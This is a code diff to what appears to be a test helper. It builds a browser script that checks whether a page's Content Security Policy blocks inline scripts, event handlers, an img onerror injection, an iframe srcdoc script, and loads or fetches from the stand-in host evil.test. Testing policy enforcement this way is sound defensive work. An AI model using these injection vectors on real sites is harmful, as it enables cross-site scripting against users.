@@ -22,25 +22,40 @@ export interface BreakIn {
   broken: string[]
 }
 
-/** Tries every way to run a script in the page or to reach another server from it. Resolves to a BreakIn. */
+/** Tries the ways to run a script in the page or to reach another server from it. Resolves to a BreakIn. */
 export const breakIn = `(async () => {
+  const run = 'window.ranInline = true'
+  const attempts = [
+    () => add('script', element => (element.textContent = run)),
+    () => add('script', element => element.append(run)),
+    () => add('script', element => (element.src = 'https://evil.test/x.js')),
+    () => add('button', element => element.setAttribute('onclick', run)).click(),
+    () => add('div', element => (element.innerHTML = '<img src="/missing" onerror="' + run + '">')),
+    () => add('iframe', element => (element.srcdoc = '<script>parent.ranInline = true</scr' + 'ipt>')),
+    () => add('style', element => (element.textContent = 'body { background: url(https://evil.test/css) }')),
+    () => add('img', element => (element.src = 'https://evil.test/pixel.gif')),
+  ]
   const broken = []
-  const expected = 5
   const stopped = new Promise(resolve =>
     document.addEventListener('securitypolicyviolation', event => {
       broken.push(event.effectiveDirective)
-      if (broken.length >= expected) resolve()
+      if (broken.includes('img-src') && broken.includes('connect-src')) resolve()
     }),
   )
-  const add = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties))
-  add('script', { textContent: 'window.ranInline = true' })
-  const button = document.createElement('button')
-  button.setAttribute('onclick', 'window.ranInline = true')
-  document.body.append(button)
-  button.click()
-  add('script', { src: 'https://evil.test/x.js' })
-  add('img', { src: 'https://evil.test/pixel.gif' })
+  const add = (tag, fill) => {
+    const element = document.createElement(tag)
+    fill(element)
+    return document.body.appendChild(element)
+  }
+  for (const attempt of attempts) {
+    try {
+      attempt()
+    } catch (error) {
+      if (!(error instanceof TypeError)) throw error
+    }
+  }
   const fetched = await fetch('https://evil.test/').then(() => 'reached', () => 'refused')
   await Promise.race([stopped, new Promise(resolve => setTimeout(resolve, 5000))])
-  return { broken, fetched, ran: 'ranInline' in window }
+  await new Promise(resolve => setTimeout(resolve, 200))
+  return { broken: [...new Set(broken)].sort(), fetched, ran: 'ranInline' in window }
 })()`
